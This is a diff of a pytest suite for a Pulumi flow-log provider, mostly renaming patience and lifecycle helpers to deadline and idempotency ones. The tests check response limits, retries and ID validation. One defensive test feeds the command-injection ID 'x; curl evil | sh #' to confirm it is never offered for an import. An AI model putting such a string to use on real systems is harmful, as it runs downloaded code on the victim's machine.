@@ -24,24 +24,24 @@ from google.protobuf.struct_pb2 import Struct
 from pulumi.dynamic.dynamic import PROVIDER_KEY, serialize_provider
 from pulumi.runtime import proto
 
-from providers import properties
+from providers import schema
 from providers.connection import Connection
-from providers.er import Client, Endpoints, Patience, lifecycle, sessions, transport
-from providers.er.credentials import TokenCredentials
-from providers.er.errors import ApiError, NotFoundError, PatienceError, TemporaryError
+from providers.er import Client, Deadline, Endpoints, idempotency, session, transport
+from providers.er.auth.credentials import TokenCredentials
+from providers.er.exceptions import ApiError, DeadlineExceededError, NotFoundError, TemporaryError
 from providers.er.flow_logs import FlowLog
-from providers.er.records import label
-from providers.flow_log_provider import TYPE_TOKEN, FlowLogError, FlowLogProvider, UnfinishedFlowLogError
+from providers.er.validation import display_name
+from providers.flow_log_provider import TYPE_TOKEN, FlowLogError, FlowLogProvider, IncompleteFlowLogError
 from providers.host.flow_log import FlowLogHandler
 from providers.host.messages import to_struct
 from stacks.checks import conflicts
+from stacks.commands.coverage.survey import survey
+from stacks.commands.coverage.table import table
 from stacks.component import RouterFlowLogs
-from stacks.config import StackConfig
-from stacks.coverage.survey import survey
-from stacks.coverage.table import table
 from stacks.errors import StackError
 from stacks.planning.inventory import look
 from stacks.planning.plan import Plan, resolve
+from stacks.stackfile.model import StackConfig
 from stacks.state.outputs import outputs
 from tests.emulator import test_client_retries, test_provider_operations
 from tests.emulator.test_client_retries import (
@@ -86,11 +86,11 @@ def fits_a_terminal(text: str, *, longest: int = 2000, lines: int = 1) -> bool:
     return len(shown) <= lines and all(line.isprintable() and len(line) <= longest for line in shown)
 
 
-def impatient(server: ScriptedServer | str, time: QuickTime) -> Client:
+def bounded(server: ScriptedServer | str, time: QuickTime) -> Client:
     """A client that tries a few times, and whose waits take no time."""
     url = server if isinstance(server, str) else server.url
     client = Client(TokenCredentials(TOKEN, PROJECT), Endpoints.at(url), backoff=lambda _tries: 20.0)
-    return client.within(time.patience(60))
+    return client.within(time.deadline(60))
 
 
 def flow_log(changed: Mapping[str, Any], status: int = 200) -> Answer:
@@ -160,7 +160,7 @@ MANY = 16 * 1024 * 1024 // len(PIECE)  # an end that no reader should see, so th
 @pytest.fixture
 def limit(monkeypatch: pytest.MonkeyPatch) -> int:
     """The most bytes of an answer, made small."""
-    monkeypatch.setattr(sessions, "ANSWER_LIMIT", LIMIT)
+    monkeypatch.setattr(session, "ANSWER_LIMIT", LIMIT)
     return LIMIT
 
 
@@ -208,7 +208,7 @@ def endless(kind: str, status: str, *headers: bytes) -> Callable[[], Iterable[by
 def test_an_answer_without_an_end_is_read_up_to_the_limit(
     pouring: Pour, time: QuickTime, limit: int, kind: str, status: str
 ) -> None:
-    client = impatient(pouring(endless(kind, status, b"Location: /elsewhere")).url, time)
+    client = bounded(pouring(endless(kind, status, b"Location: /elsewhere")).url, time)
     errors: list[ApiError] = []
 
     kept = most_kept(lambda: errors.append(raised(ApiError, lambda: show(client))))
@@ -235,7 +235,7 @@ def test_answers_without_an_end_are_not_kept_from_try_to_try(
     pouring: Pour, time: QuickTime, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     limit = 16 * LIMIT
-    monkeypatch.setattr(sessions, "ANSWER_LIMIT", limit)
+    monkeypatch.setattr(session, "ANSWER_LIMIT", limit)
     client = token_client(pouring(endless("in chunks", "200 OK")).url, time)
 
     kept = most_kept(lambda: raised(TemporaryError, lambda: show(client)))
@@ -248,7 +248,7 @@ def test_an_answer_of_just_the_limit_is_read(scripted: ServerFactory, time: Quic
     fitting = OK.content.ljust(limit)
 
     assert show(token_client(scripted(Answer(body=fitting)), time)) == show(token_client(scripted(OK), time))
-    error = raised(TemporaryError, lambda: show(impatient(scripted(Answer(body=fitting + b" ")), time)))
+    error = raised(TemporaryError, lambda: show(bounded(scripted(Answer(body=fitting + b" ")), time)))
     assert error.message.endswith(f"answered with more than {limit} bytes")
 
 
@@ -272,9 +272,9 @@ def never_ready(request: pytest.FixtureRequest, pouring: Pour, monkeypatch: pyte
 
 
 def test_an_answer_that_never_gets_to_its_point_costs_no_more_than_the_callers_patience(never_ready: str) -> None:
-    client = Client(TokenCredentials(TOKEN, PROJECT), Endpoints.at(never_ready)).within(Patience(seconds=0.1))
+    client = Client(TokenCredentials(TOKEN, PROJECT), Endpoints.at(never_ready)).within(Deadline(seconds=0.1))
 
-    error = raised(PatienceError, lambda: show(client))
+    error = raised(DeadlineExceededError, lambda: show(client))
 
     assert error.message == "gave up after 0 s of waiting for the service to answer"
 
@@ -286,9 +286,9 @@ def test_an_answer_that_never_gets_to_its_point_stands_in_nobody_elses_way(
     monkeypatch.setattr(transport, "CALLS_AT_ONCE", 1)
     endpoints = Endpoints.at(scripted(Answer(body={"log_groups": []})).url).overridden(er=never_ready)
     client = Client(TokenCredentials(TOKEN, PROJECT), endpoints)
-    raised(PatienceError, lambda: show(client.within(Patience(seconds=0.1))))
+    raised(DeadlineExceededError, lambda: show(client.within(Deadline(seconds=0.1))))
 
-    assert client.within(Patience(seconds=30)).log_tank.groups() == []
+    assert client.within(Deadline(seconds=30)).log_tank.groups() == []
 
 
 # What is no HTTP, or too much of it
@@ -322,7 +322,7 @@ def bytes_of(head: bytes, body: bytes = OK.content) -> Callable[[], Iterable[byt
 def test_what_is_no_http_answer_is_tried_again_and_told_in_one_line(
     pouring: Pour, time: QuickTime, head: bytes
 ) -> None:
-    error = raised(TemporaryError, lambda: show(impatient(pouring(bytes_of(head)).url, time)))
+    error = raised(TemporaryError, lambda: show(bounded(pouring(bytes_of(head)).url, time)))
 
     assert fits_a_terminal(str(error))
 
@@ -366,7 +366,7 @@ def test_the_service_can_ask_for_two_minutes_at_most(scripted: ServerFactory, ti
 def test_the_service_cannot_ask_to_be_called_sooner_than_it_would_be(
     scripted: ServerFactory, time: QuickTime, value: str
 ) -> None:
-    show(impatient(scripted(Answer(503, b"", {"Retry-After": value}), OK), time))
+    show(bounded(scripted(Answer(503, b"", {"Retry-After": value}), OK), time))
 
     assert time.waits == [20.0]
 
@@ -440,7 +440,7 @@ def test_of_two_fields_of_one_name_the_last_one_counts(scripted: ServerFactory, 
 def test_json_is_utf_8_whatever_the_answer_says(scripted: ServerFactory, time: QuickTime, charset: str) -> None:
     server = scripted(Answer(headers={"Content-Type": f"application/json; charset={charset}"}))
 
-    assert show(impatient(server, time))
+    assert show(bounded(server, time))
     assert len(server.received) == 1
 
 
@@ -475,7 +475,7 @@ def test_a_list_of_anything_but_records_is_refused(scripted: ServerFactory, time
     server = scripted(*(Answer(body={key: value}) for value in wrong), Answer(body={key: []}))
     client = Client(TokenCredentials(TOKEN, PROJECT), Endpoints.at(server.url), backoff=lambda _tries: 0.1)
 
-    assert not read(client.within(time.patience()))
+    assert not read(client.within(time.deadline()))
     assert len(server.received) == len(wrong) + 1
 
 
@@ -492,7 +492,7 @@ def test_a_page_with_a_mangled_record_is_tried_again(
 ) -> None:
     server = scripted(Answer(body={key: [record]}), Answer(body={key: []}))
 
-    assert LISTS[key][1](impatient(server, time)) == []
+    assert LISTS[key][1](bounded(server, time)) == []
 
 
 def test_paging_of_another_type_is_refused(scripted: ServerFactory, time: QuickTime) -> None:
@@ -502,7 +502,7 @@ def test_paging_of_another_type_is_refused(scripted: ServerFactory, time: QuickT
     server = scripted(*(Answer(body={"instances": [], **paging}) for paging in wrong), Answer(body={"instances": []}))
     client = Client(TokenCredentials(TOKEN, PROJECT), Endpoints.at(server.url), backoff=lambda _tries: 0.1)
 
-    assert list(client.within(time.patience()).routers.list()) == []
+    assert list(client.within(time.deadline()).routers.list()) == []
     assert len(server.received) == len(wrong) + 1
 
 
@@ -574,7 +574,7 @@ def test_a_list_that_goes_on_and_on_ends_with_the_callers_patience(time: QuickTi
 
     growing = Growing(time)
     try:
-        error = raised(PatienceError, lambda: list(token_client(growing, time, seconds=30).routers.list()))
+        error = raised(DeadlineExceededError, lambda: list(token_client(growing, time, seconds=30).routers.list()))
     finally:
         growing.stop()
 
@@ -592,15 +592,15 @@ def test_half_a_character_is_of_the_wrong_type(scripted: ServerFactory, time: Qu
 def test_half_a_character_in_a_marker_is_of_the_wrong_type(scripted: ServerFactory, time: QuickTime) -> None:
     page = {"instances": [{"id": ROUTER}], "page_info": {"next_marker": HALF}, "total_count": 2}
 
-    raised(ApiError, lambda: list(impatient(scripted(Answer(body=page)), time).routers.list()))
+    raised(ApiError, lambda: list(bounded(scripted(Answer(body=page)), time).routers.list()))
 
 
 # Ids
 
 
 def created(client: Client) -> object:
-    wanted = lifecycle.Wanted(name="shop", description="", enabled=True)
-    return lifecycle.create(client, TARGET, wanted, key="key")
+    wanted = idempotency.FlowLogSpec(name="shop", description="", enabled=True)
+    return idempotency.create(client, TARGET, wanted, key="key")
 
 
 @pytest.mark.parametrize(("id_", "state"), [*zip(NO_IDS, itertools.cycle(["pending", "available"]))])
@@ -610,7 +610,7 @@ def test_a_created_flow_log_whose_id_is_none_leads_to_no_other_address(
     server = scripted(flow_log({"id": id_, "state": state}, 202), OK)
 
     with contextlib.suppress(ApiError):
-        created(impatient(server, time))
+        created(bounded(server, time))
 
     base = f"/v3/{PROJECT}/enterprise-router/{ROUTER}/flow-logs"
     assert {urlsplit(one.path).path for one in server.received} <= {base, f"{base}/{FLOW_LOG}"}
@@ -638,17 +638,17 @@ def failure(call: Callable[[], object]) -> FlowLogError:
     return caught.value
 
 
-@pytest.mark.parametrize("id_", [*NO_IDS, HALF, properties.unsure_id("forged")])
+@pytest.mark.parametrize("id_", [*NO_IDS, HALF, schema.outcome_unknown_id("forged")])
 def test_a_created_flow_log_whose_id_is_none_gets_neither_into_the_state_nor_into_the_sentence(
     scripted: ServerFactory, time: QuickTime, id_: str
 ) -> None:
     provider = provider_of(scripted(flow_log({"id": id_}, 202)))
 
-    error = failure(lambda: provider.create(INPUTS, time.patience(60)))
+    error = failure(lambda: provider.create(INPUTS, time.deadline(60)))
 
     # What remains is that nobody knows whether there is one.
-    assert isinstance(error, UnfinishedFlowLogError)
-    assert error.id.startswith(properties.unsure_id())
+    assert isinstance(error, IncompleteFlowLogError)
+    assert error.id.startswith(schema.outcome_unknown_id())
     assert error.id != id_
     assert fits_a_terminal(str(error))
 
@@ -660,7 +660,7 @@ def test_what_a_flow_log_belongs_to_has_an_id_or_is_not_believed(
 ) -> None:
     server = scripted(flow_log({field: id_}))
 
-    error = failure(lambda: provider_of(server).read(FLOW_LOG, STATE, time.patience(60)))
+    error = failure(lambda: provider_of(server).read(FLOW_LOG, STATE, time.deadline(60)))
 
     assert fits_a_terminal(str(error))
 
@@ -668,13 +668,13 @@ def test_what_a_flow_log_belongs_to_has_an_id_or_is_not_believed(
 def test_another_flow_log_than_the_one_asked_for_is_not_believed(scripted: ServerFactory, time: QuickTime) -> None:
     server = scripted(flow_log({"id": "somebody-elses"}))
 
-    failure(lambda: provider_of(server).read(FLOW_LOG, STATE, time.patience(60)))
+    failure(lambda: provider_of(server).read(FLOW_LOG, STATE, time.deadline(60)))
 
 
 def test_a_number_too_large_for_the_state_is_of_the_wrong_type(scripted: ServerFactory, time: QuickTime) -> None:
     server = scripted(flow_log({"log_aggregation_interval": 10**400}), OK)
 
-    result = provider_of(server).read(FLOW_LOG, STATE, time.patience(60))
+    result = provider_of(server).read(FLOW_LOG, STATE, time.deadline(60))
 
     assert to_struct(result.outs or {}, Struct())["log_aggregation_interval"] == 600
 
@@ -721,7 +721,7 @@ def test_whatever_has_no_id_is_refused_in_a_bounded_sentence(
 
 def signing_in(url: str, time: QuickTime) -> Client:
     config = {"endpoint": url, "username": "demo", "password": "hush-hush", "domain": "D", "project": "eu-de"}
-    return Connection(config.get, {}, directory=Path()).client.within(time.patience(60))
+    return Connection(config.get, {}, directory=Path()).client.within(time.deadline(60))
 
 
 def signed_in(**changed: Any) -> Answer:
@@ -762,7 +762,7 @@ def test_a_project_of_iam_whose_id_is_none_is_no_project(scripted: ServerFactory
 def with_a_key(url: str, time: QuickTime) -> Client:
     """A client that has to ask IAM for its project."""
     config = {"endpoint": url, "access_key": "key", "secret_key": "hush-hush", "project": "eu-de"}
-    return Connection(config.get, {}, directory=Path()).client.within(time.patience(60))
+    return Connection(config.get, {}, directory=Path()).client.within(time.deadline(60))
 
 
 @pytest.mark.parametrize(
@@ -789,7 +789,7 @@ def catalogued(url: str, time: QuickTime) -> Client:
     """A client that has the addresses of the services from IAM's catalog."""
     config = {"username": "demo", "password": "hush-hush", "domain": "D", "project": "eu-de", "region": "eu-none"}
     connection = Connection(config.get, {"OS_AUTH_URL": f"{url}/v3"}, directory=Path())
-    return connection.client.within(time.patience(60))
+    return connection.client.within(time.deadline(60))
 
 
 def catalog(url: Any) -> list[dict[str, Any]]:
@@ -864,7 +864,7 @@ def test_json_of_iam_that_cannot_be_read_is_an_error_of_the_api(
 def test_every_part_of_a_refusal_fits_a_terminal(
     scripted: ServerFactory, time: QuickTime, text: str, status: int
 ) -> None:
-    error = raised(ApiError, lambda: show(impatient(scripted(refusal(text, text, status, text)), time)))
+    error = raised(ApiError, lambda: show(bounded(scripted(refusal(text, text, status, text)), time)))
 
     assert fits_a_terminal(str(error))
 
@@ -921,9 +921,9 @@ def test_a_state_that_nobody_knows_is_waited_out_and_told_fit_for_a_terminal(
 ) -> None:
     texts: list[str] = []
     client = Client(TokenCredentials(TOKEN, PROJECT), Endpoints.at(scripted(flow_log({"state": RED + LONG})).url))
-    patience = Patience(seconds=0.5, report=texts.append)
+    deadline = Deadline(seconds=0.5, report=texts.append)
 
-    error = raised(lifecycle.UnfinishedError, lambda: created(client.within(patience)))
+    error = raised(idempotency.IncompleteError, lambda: created(client.within(deadline)))
 
     assert texts
     assert all(fits_a_terminal(one) for one in [str(error), *texts])
@@ -957,7 +957,7 @@ def quota(number: int) -> Answer:
 def test_why_a_flow_log_was_not_created_fits_a_terminal(
     scripted: ServerFactory, time: QuickTime, script: list[Step]
 ) -> None:
-    error = failure(lambda: provider_of(scripted(*script)).create(INPUTS, time.patience(60)))
+    error = failure(lambda: provider_of(scripted(*script)).create(INPUTS, time.deadline(60)))
 
     assert fits_a_terminal(str(error))
     assert "<{%" not in str(error)
@@ -969,13 +969,13 @@ def test_help_that_cannot_be_had_leaves_the_refusal_as_it_is(
 ) -> None:
     provider = provider_of(scripted(OVER_QUOTA, Answer(body={"quotas": quotas})))
 
-    error = failure(lambda: provider.create(INPUTS, time.patience(60)))
+    error = failure(lambda: provider.create(INPUTS, time.deadline(60)))
 
     assert str(error) == "flow log 'shop' was not created: No (ER.04009008, HTTP 400, request r)"
 
 
 def test_a_hostile_id_is_never_offered_for_an_import(
-    scripted: ServerFactory, stock: type[Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    scripted: ServerFactory, base: type[Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     server = scripted(TAKEN, HOLDS, flow_log({"id": "x; curl evil | sh #"}), TAKEN)
     monkeypatch.chdir(tmp_path)
@@ -987,7 +987,7 @@ def test_a_hostile_id_is_never_offered_for_an_import(
         | {"otc-flow-logs:endpoint": server.url}
     )
 
-    with hosted(stock, FlowLogHandler()) as host:
+    with hosted(base, FlowLogHandler()) as host:
         host.Configure(proto.ConfigureRequest(args=config))
         with pytest.raises(grpc.RpcError) as caught:
             host.Create(proto.CreateRequest(urn=urn, properties=inputs, timeout=0.5))
@@ -1001,7 +1001,7 @@ def test_a_hostile_id_is_never_offered_for_an_import(
 
 def resolved(world: World, time: QuickTime, **changed: Any) -> Plan:
     routers = {"main": {"router": "core", "log_group": "network", "log_stream": "flow", **changed}}
-    found = planned(impatient(world, time), StackConfig.model_validate({"routers": routers}))
+    found = planned(bounded(world, time), StackConfig.model_validate({"routers": routers}))
     if found.problems:
         raise StackError(found.problems)
     return found
@@ -1029,7 +1029,7 @@ def test_the_coverage_table_of_hostile_names_has_a_bounded_line_for_each_attachm
 ) -> None:
     rename_all(world, name)
     config = StackConfig.model_validate({"routers": {"main": BY_ID}})
-    client = impatient(world, time)
+    client = bounded(world, time)
     found = planned(client, config)
 
     shown = table(survey(client, found, stack="local", now=datetime.now(timezone.utc)))
@@ -1075,7 +1075,7 @@ def test_what_two_routers_of_a_stack_file_both_log_to_fits_a_terminal(world: Wor
     rename_all(world, name)
     config = StackConfig.model_validate({"routers": {"main": BY_ID, "again": BY_ID}})
 
-    (shown,) = told(StackError(planned(impatient(world, time), config).problems))
+    (shown,) = told(StackError(planned(bounded(world, time), config).problems))
 
     assert fits_a_terminal(shown, longest=5000)
     assert "<{%" not in shown
@@ -1106,7 +1106,7 @@ def test_the_names_of_somebody_elses_flow_logs_fit_a_terminal(
     theirs = {"id": "theirs", "resource_id": "attachment-1", "log_group_id": "group-1", "log_stream_id": "stream-1"}
     world.lists["flow-logs"].append({**RECORD, **theirs, "name": name, "state": "failed"})
     config = StackConfig.model_validate({"routers": {"main": {**BY_ID, "adopt": adopt}}})
-    client = impatient(world, time)
+    client = bounded(world, time)
     found = planned(client, config)
 
     (shown,) = told(StackError(conflicts.check(config, found, {}, has_key=False).problems))
@@ -1119,7 +1119,7 @@ def test_the_names_of_somebody_elses_flow_logs_fit_a_terminal(
 
 @pytest.mark.parametrize("name", [RED, LONG, COLOUR])
 def test_the_list_of_what_a_run_would_delete_fits_a_terminal(name: str) -> None:
-    stack = Stack(plans.attachment("a", label(name)), plans.attachment("b", "vpc-b"))
+    stack = Stack(plans.attachment("a", display_name(name)), plans.attachment("b", "vpc-b"))
     stack.up()
 
     run = stack.preview({"core": {"attachments": ["vpc-b"]}}, max_deletes=0)
@@ -1139,7 +1139,7 @@ def test_hostile_names_and_tags_in_a_reason_fit_a_terminal(name: str) -> None:
     tagged = plans.attachment("b", "b", tags={"env": "prod"})
     stack = Stack(plans.attachment("a", "vpc-a"), tagged)
     stack.up(wanted)
-    stack.now(plans.attachment("a", label(name)), plans.attachment("b", "b", tags={"env": name}))
+    stack.now(plans.attachment("a", display_name(name)), plans.attachment("b", "b", tags={"env": name}))
 
     for text in stack.preview(wanted, max_deletes=2).sentences:
         assert fits_a_terminal(text)
